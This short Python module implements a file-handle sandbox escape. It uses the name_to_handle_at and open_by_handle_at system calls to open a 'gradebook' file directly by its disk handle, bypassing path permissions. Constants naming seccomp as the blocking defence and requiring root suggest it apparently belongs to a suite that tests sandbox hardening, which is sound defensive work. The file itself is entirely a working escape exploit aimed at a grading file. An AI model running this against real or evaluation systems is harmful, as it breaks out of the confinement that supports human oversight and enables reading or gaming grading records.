"""Opens a file by its number on the disk, past all paths and what they permit."""

import ctypes
import os
import struct

from raw_syscall import syscall

STOPPED_BY = "seccomp"
NEEDS_ROOT = True


def attack(target):
    handle = ctypes.create_string_buffer(struct.pack("I", 128), 136)
    where = ctypes.c_int()
    syscall("name_to_handle_at", -100, target["gradebook"].encode(), handle, ctypes.byref(where), 0)
    root = os.open("/", os.O_RDONLY)
    return os.read(syscall("open_by_handle_at", root, handle, os.O_RDONLY), 1000).decode()
